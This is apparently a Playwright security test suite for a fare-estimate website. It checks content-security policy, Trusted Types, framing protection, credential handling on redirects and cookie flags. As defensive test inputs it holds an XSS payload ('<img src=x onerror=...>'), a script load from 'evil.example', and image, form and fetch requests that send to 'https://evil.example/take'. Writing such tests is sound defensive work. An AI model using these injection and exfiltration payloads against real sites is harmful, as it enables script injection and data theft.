import { createServer, type RequestListener } from 'node:http'
import { logIn } from './support/account.ts'
import { expect, test } from './support/estimate.ts'
import { arriveAsCustomer } from './support/orders.ts'

const form = '/en-IN/fare-estimate'

/** Runs somebody else's site while `look` runs. */
const beside = async (answer: RequestListener, look: (url: string) => Promise<void>) => {
  const server = createServer(answer)
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  try {
    const address = server.address()
    if (address === null || typeof address === 'string') throw new Error('no port was bound')
    await look(`http://127.0.0.1:${address.port}`)
  } finally {
    server.close()
  }
}

test.describe('injected content', { tag: '@any-size' }, () => {
  test.beforeEach(async ({ page }) => {
    await page.goto(form)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })

  test('never becomes markup, a script or a handler', async ({ page, consoleErrors }) => {
    consoleErrors.expectRefusal(/TrustedHTML|TrustedScript|Content Security Policy/)
    const became = await page.evaluate(async () => {
      const outcome = (act: () => void): string => {
        try {
          act()
          return 'done'
        } catch (thrown) {
          return thrown instanceof Error ? thrown.name : 'thrown'
        }
      }
      const script = document.createElement('script')
      return {
        markup: outcome(() => {
          document.body.innerHTML = '<img src=x onerror="window.name = \'taken\'">'
        }),
        text: outcome(() => {
          script.text = "window.name = 'taken'"
        }),
        address: outcome(() => {
          script.src = 'https://evil.example/taken.js'
        }),
        // In a later task, because what Playwright itself evaluates may use `eval`.
        string: await new Promise<string>((resolve) => {
          setTimeout(() => {
            resolve(
              outcome(() => {
                Reflect.apply(Reflect.get(window, 'eval'), window, ["window.name = 'taken'"])
              }),
            )
          })
        }),
        handler: outcome(() => document.body.setAttribute('onclick', "window.name = 'taken'")),
      }
    })
    expect(became).toMatchObject({
      markup: 'TypeError',
      text: 'TypeError',
      address: 'TypeError',
      string: 'EvalError',
    })
    await page.locator('body').click({ position: { x: 1, y: 1 } })
    expect(await page.evaluate(() => window.name)).toBe('')
  })

  test('can neither load from another site nor send a form to it', async ({
    page,
    network,
    consoleErrors,
  }) => {
    consoleErrors.expectRefusal(/Content Security Policy/)
    const reached: string[] = []
    await page.route('https://evil.example/**', (route) => {
      reached.push(route.request().url())
      return route.fulfill({ body: '' })
    })
    await page.evaluate(async () => {
      const image = new Image()
      image.src = 'https://evil.example/pixel.png'
      const sending = document.createElement('form')
      sending.action = 'https://evil.example/take'
      document.body.append(image, sending)
      sending.submit()
      await fetch('https://evil.example/take', { mode: 'no-cors' }).catch(() => undefined)
    })
    // A form is sent after the script that sends it.
    await network.quiet()
    expect(reached).toEqual([])
    expect(await page.evaluate(() => location.pathname)).toBe(form)
  })
})

test('the website cannot be framed by another site', { tag: '@any-size' }, async ({
  page,
  site,
  consoleErrors,
}) => {
  consoleErrors.expectRefusal(/Content Security Policy/)
  const framed: RequestListener = (_, answer) => {
    answer.setHeader('content-type', 'text/html')
    answer.end(`<!doctype html><iframe src="${site.url}${form}"></iframe>`)
  }
  await beside(framed, async (url) => {
    await page.goto(url)
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/')
    expect(page.frames()).toHaveLength(2)
  })
})

test('a customer’s credentials are not sent on when a service redirects the request', {
  tag: '@any-size',
}, async ({ page, site, sandbox, consoleErrors, reports }) => {
  consoleErrors.expect(/net::ERR|status of/)
  // The page requests this by itself, perhaps after the test has ended.
  reports.allow(/^\[ORDERS\] liveOrders: Unreachable$/)
  await arriveAsCustomer(page, sandbox)
  const told: string[] = []
  const curious: RequestListener = (request, answer) => {
    told.push(`${request.method} ${JSON.stringify(request.headers)}`)
    answer.setHeader('access-control-allow-origin', '*')
    answer.setHeader('access-control-allow-headers', '*')
    answer.end('{}')
  }
  const taken: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/take')) taken.push(request.url())
  })
  await beside(curious, async (url) => {
    // Neither to an origin that the page's policy does not allow nor to one that it does.
    for (const origin of [url, site.url]) {
      const sent: string[] = []
      await page.route('**/order-history/orders**', (route) => {
        sent.push(route.request().headers()['auth-token'] ?? '')
        return route.fulfill({ status: 307, headers: { location: `${origin}/take` } })
      })
      await page.goto('/en-IN/order-history')
      await expect(page.getByRole('alert').first()).toBeVisible()
      await reports.expect(/^\[ORDERS\] orderHistory: Unreachable$/)
      expect(sent[0]).not.toBe('')
      await page.unrouteAll()
    }
    expect(told).toEqual([])
    expect(taken).toEqual([])
  })
})

test('the cookies of a page that came encrypted are sent to no page that did not', {
  tag: '@any-size',
}, async ({ page, context, site }) => {
  // As behind a proxy that encrypts: the browser takes the pages for those of this address.
  const encrypted = 'https://hathi.example'
  await context.route(`${encrypted}/**`, async (route) => {
    const url = route.request().url().replace(encrypted, site.url)
    await route.fulfill({ response: await route.fetch({ url, maxRedirects: 0 }) })
  })
  await page.goto(`${encrypted}/en-IN`)
  await logIn(page, site)
  await page.getByRole('button', { name: /^Language/ }).click()
  await page.getByRole('link', { name: 'Türkçe' }).click()
  await expect(page).toHaveURL(`${encrypted}/tr-TR`)

  const cookies = await context.cookies()
  expect(cookies.map(({ name, path, sameSite, secure }) => [name, path, sameSite, secure])).toEqual(
    expect.arrayContaining(
      ['auth-token', 'mobile', 'language'].map((name) => [name, '/', 'Lax', true]),
    ),
  )
  expect(cookies.filter(({ secure }) => !secure)).toEqual([])

  // What the page still asks for is not waited for.
  await page.goto('about:blank')
  await context.unrouteAll({ behavior: 'ignoreErrors' })
})

test.describe('with Google’s maps', { tag: '@any-size' }, () => {
  test.use({ settings: { HATHI_MAPS: 'google', HATHI_GOOGLE_MAPS_KEY: 'key' } })

  test('Google’s script can add the styles and scripts that its documentation names', async ({
    page,
    reports,
  }) => {
    // The stand-in never says that it has loaded.
    reports.allow(/^\[MAPS\] script did not load/)
    const script = `
      const style = document.createElement('style')
      style.nonce = document.querySelector('style[nonce], link[rel=stylesheet][nonce]').nonce
      style.textContent = 'body { --of-google: 1 }'
      document.head.append(style)
      const more = document.createElement('script')
      more.src = 'https://maps.googleapis.com/maps-api-v3/api/js/more.js'
      document.head.append(more)
      window.name = eval('"ran"')`
    await page.route('https://maps.googleapis.com/**', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: route.request().url().endsWith('more.js') ? 'window.name += " on"' : script,
      }),
    )
    await page.goto(form)
    await expect.poll(() => page.evaluate(() => window.name)).toBe('ran on')
    const styled = () =>
      page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--of-google'))
    expect(await styled()).toBe('1')
  })
})
